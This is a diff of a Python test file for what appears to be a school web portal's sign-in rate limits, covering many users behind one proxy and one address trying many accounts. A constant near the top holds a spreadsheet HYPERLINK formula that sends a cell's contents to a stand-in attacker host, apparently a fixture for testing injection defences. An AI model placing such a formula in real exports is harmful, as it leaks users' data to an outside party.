@@ -37,8 +37,8 @@ from tests.web_helpers import (
     open_instance,
     signed_in,
 )
+from web.auth import hash_password
 from web.models import CalendarLink, SignInAttempt
-from web.users import add_user
 
 NOW = at_nine(date(2022, 9, 15), TZ)
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Открыть")'
@@ -438,21 +438,20 @@ def _clear_attempts(portal: Portal) -> None:
             session.delete(attempt)
 
 
-def test_thirty_colleagues_behind_one_proxy_all_sign_in(portal: Portal) -> None:
+def test_twenty_one_colleagues_behind_one_proxy_all_sign_in(portal: Portal) -> None:
+    # the old limit counted 20 sign-ins per address, successful ones included: the 21st was refused
     _clear_attempts(portal)
+    password_hash = hash_password(PASSWORD)  # hashed once: argon2 is slow on purpose
     with session_scope(portal.engine) as session:
-        for index in range(30):
-            add_user(
-                session=session,
-                email=f"teacher{index}@beloyarsky-edu.example.ru",
-                role="viewer",
-                password=PASSWORD,
-                now=NOW,
-                by="test",
-            )
+        for index in range(21):
+            email = f"teacher{index}@beloyarsky-edu.example.ru"
+            if session.exec(select(User).where(User.email == email)).first() is None:
+                session.add(
+                    User(email=email, role="viewer", password_hash=password_hash, created_at=NOW)
+                )
     app = portal.app()
     # one address (the proxy's), one morning
-    for index in range(30):
+    for index in range(21):
         client = TestClient(app, raise_server_exceptions=False, follow_redirects=False)
         status = _sign_in(client, f"teacher{index}@beloyarsky-edu.example.ru", PASSWORD)
         assert status == 303, f"colleague {index + 1} was refused"
@@ -479,14 +478,21 @@ def test_password_guessing_is_stopped_per_account_across_worker_processes(portal
 
 def test_one_address_trying_many_accounts_is_stopped(portal: Portal) -> None:
     _clear_attempts(portal)
-    app = portal.app()
-    client = TestClient(app, raise_server_exceptions=False, follow_redirects=False)
-    statuses = [
-        _sign_in(client, f"guess{index}@beloyarsky-edu.example.ru", "password123")
-        for index in range(31)
-    ]
-    assert statuses[:30] == [400] * 30 and statuses[30] == 429
-    assert _sign_in(client, COORDINATOR, PASSWORD) == 429
+    # 29 failures on 29 accounts already counted for this address (as real attempts write them)
+    with session_scope(portal.engine) as session:
+        for index in range(29):
+            session.add(
+                SignInAttempt(
+                    kind="password_failure",
+                    at=NOW - timedelta(minutes=5),
+                    address="testclient",
+                    email=f"guess{index}@beloyarsky-edu.example.ru",
+                )
+            )
+    client = TestClient(portal.app(), raise_server_exceptions=False, follow_redirects=False)
+    assert _sign_in(client, "guess29@beloyarsky-edu.example.ru", "password123") == 400
+    assert _sign_in(client, "guess30@beloyarsky-edu.example.ru", "password123") == 429
+    assert _sign_in(client, COORDINATOR, PASSWORD) == 429, "the address waits, whatever account"
     _clear_attempts(portal)
 
 
